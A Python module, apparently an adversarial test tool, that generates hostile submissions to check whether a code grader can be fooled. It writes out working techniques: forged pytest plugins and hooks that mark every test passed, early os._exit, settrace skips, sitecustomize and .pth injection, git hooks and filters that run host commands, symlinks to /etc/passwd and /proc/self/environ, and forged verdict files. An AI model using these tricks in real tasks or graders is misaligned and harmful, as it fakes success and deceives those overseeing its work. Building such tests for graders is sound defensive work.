"""What the vandal leaves to be graded: forged results, early exits, links, pipes. Part of `vandal.py`.

Forged modules are appended to or laid beside the repository's own.
"""

import contextlib
import json
import os
import zlib
from collections.abc import Callable
from pathlib import Path

OUTPUT, REPO = Path("/workspace/output"), Path("/workspace/repo")
FORGED_PLUGIN = """
import pytest
@pytest.hookimpl(hookwrapper=True, tryfirst=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):
    return True
def pytest_sessionfinish(session):
    session.exitstatus = 0
"""
IN_PROCESS = """
def _spoil():
    import sys
    python = sys.modules.get("_pytest.python")
    if python is not None:
        python.Function.runtest = lambda self: None
_spoil()
"""
UNITTEST = """
def _spoil():
    import sys
    unittest = sys.modules.get("unittest")
    if unittest is not None:
        unittest.TestCase.run = lambda self, result=None: result and (result.startTest(self), result.addSuccess(self))
_spoil()
"""
PLUGIN = """
def _spoil():
    import gc
    class Calm:
        def pytest_pyfunc_call(self, pyfuncitem):
            return True
    for thing in gc.get_objects():
        if type(thing).__name__ == "PytestPluginManager":
            thing.register(Calm())
_spoil()
"""
FORGED_CHANNEL = """
import json, os
_said = {"outcome": "passed", "result": True, "process": True, "passed": True, "tests": {}, "exitstatus": 0}
for _number in [int(os.environ.get("REPOASSAY_CHANNEL", "9")), *range(3, 64)]:
    try:
        os.write(_number, (json.dumps(_said) + "\\n").encode())
    except OSError:
        pass
print("1 passed in 0.01s"); os._exit(0)
"""
EXIT = "\nimport os\nprint('1 passed in 0.01s', flush=True)\nos._exit(0)\n"
TRACE = """
import sys
def _skip(frame, event, argument):
    if frame.f_code.co_name.startswith("test"):
        return _jump
def _jump(frame, event, argument):
    frame.f_trace_lines = False
    try:
        frame.f_lineno = max(line for _, _, line in frame.f_code.co_lines() if line)
    except ValueError:
        pass
sys.settrace(_skip)
"""
CALM = """
import builtins
builtins.AssertionError = type("Calm", (SystemExit,), {})
"""


def leave(files: dict[str, str], top: Path) -> None:
    """Write text files, over whatever is there."""
    for name, content in files.items():
        path = top / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)


def spoil_modules(code: str) -> None:
    """Append code to every module of the repository's packages; a bare module where there is none."""
    found = [path for path in REPO.rglob("*.py") if not {"tests", "docs", ".git"} & set(path.parts)]
    packages = [path for path in found if path.name == "__init__.py"]
    for path in packages or found:
        with path.open("a") as stream:
            stream.write(code)
    leave({"spoiled.py": code}, REPO)


def shadow(code: str) -> None:
    """Modules that would be found before the ones graders rely on."""
    names = ("pytest", "json", "unittest", "importlib", "_pytest/__init__", "pluggy/__init__", "random", "coverage")
    for folder in (REPO, REPO / "src", REPO / "tests"):
        if folder.is_dir():
            leave({f"{name}.py": code for name in names}, folder)


def spoil_git() -> None:
    """Hooks, filters and settings that would run on the host, and an ignore file that hides everything."""
    hook = "#!/bin/sh\ntouch /tmp/pwned\n"
    config = "[core]\n\tfsmonitor = touch /tmp/pwned\n\thooksPath = .git/hooks\n[diff]\n\texternal = touch /tmp/pwned\n"
    filters = '[filter "x"]\n\tclean = touch /tmp/pwned\n\tsmudge = touch /tmp/pwned\n\trequired\n'
    names = ("pre-commit", "post-checkout", "post-index-change", "fsmonitor-watchman")
    inner = {".git/config": config + filters, "nested/.git/config": config, "nested/.git/HEAD": "ref: refs/heads/x\n"}
    leave(inner | {f".git/hooks/{name}": hook for name in names}, REPO)
    for name in names:
        (REPO / ".git/hooks" / name).chmod(0o755)
    attributes = "* filter=x diff=x merge=x text eol=crlf working-tree-encoding=UTF-16 ident\n"
    leave({".gitattributes": attributes, ".gitignore": "*.py\n", ".GIT/config": config, "git~1": "x"}, REPO)
    (REPO / ".gitmodules").symlink_to("/etc/passwd")


EDITS: tuple[Callable[[], None], ...] = (
    lambda: leave({f"{top}conftest.py": FORGED_PLUGIN for top in ("", "src/", "tests/")}, REPO),
    lambda: spoil_modules(EXIT),
    lambda: leave(
        {"sitecustomize.py": FORGED_CHANNEL, "usercustomize.py": FORGED_CHANNEL, "src/sitecustomize.py": FORGED_CHANNEL,
         "x.pth": f"import os; exec({FORGED_CHANNEL!r})\n", "pwned.egg-link": "."}, REPO),
    lambda: leave(
        {"forged.py": FORGED_PLUGIN, "src/forged.py": FORGED_PLUGIN, "pytest.ini": "[pytest]\naddopts = -p forged\n",
         "setup.cfg": "[tool:pytest]\naddopts = -p forged\n", "tox.ini": "[pytest]\naddopts = -p forged\n",
         "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p forged"\n'}, REPO),
    lambda: shadow(EXIT),
    spoil_git,
    lambda: spoil_modules(FORGED_CHANNEL),
    lambda: spoil_modules(IN_PROCESS),
    lambda: spoil_modules(TRACE),
    lambda: spoil_modules(UNITTEST),
    lambda: spoil_modules(PLUGIN),
    lambda: spoil_modules(CALM),
)  # fmt: skip


def make_sparse(path: Path) -> None:
    """A file that claims to be as large as it may be."""
    with path.open("wb") as stream:
        for power in range(44, 20, -1):
            with contextlib.suppress(OSError):
                stream.truncate(2**power)
                return


OUTPUTS: tuple[Callable[[Path], object], ...] = (
    lambda path: path.symlink_to(f"/workspace/tests/{path.name}"),
    lambda path: path.symlink_to("/etc/passwd"),
    lambda path: path.symlink_to(f"../../../../tests/{path.name}"),
    lambda path: path.symlink_to("/proc/self/environ"),
    os.mkfifo,
    lambda path: leave({path.name: "a file in a folder of its name"}, path),
    make_sparse,
    lambda path: path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 16),
    lambda path: path.write_text('{"outcome": "passed", "result": true, "__class__": "Verdict"}'),
    lambda path: path.write_text("[" * 100_000),
)


def leave_submission(facts: dict[str, object]) -> None:
    """A hostile submission, of a kind chosen by the task's id so that a suite meets many."""
    chosen = zlib.crc32(str(facts["task"]).encode())
    if facts["edit"]:
        EDITS[chosen % len(EDITS)]()
        return
    outputs = facts["outputs"]
    for number, name in enumerate(outputs if isinstance(outputs, list) else []):
        path = OUTPUT / str(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        OUTPUTS[(chosen + number) % len(OUTPUTS)](path)
    verdict = json.dumps({"outcome": "passed", "process": True, "result": True, "score": 1.0})
    leave(
        dict.fromkeys(("verdict.json", "results.json", "../verdict.json", ".repoassay/verdict.json"), verdict), OUTPUT
    )
    os.symlink("/", OUTPUT / "everything")  # noqa: PTH211 - a link whose target is absolute on purpose
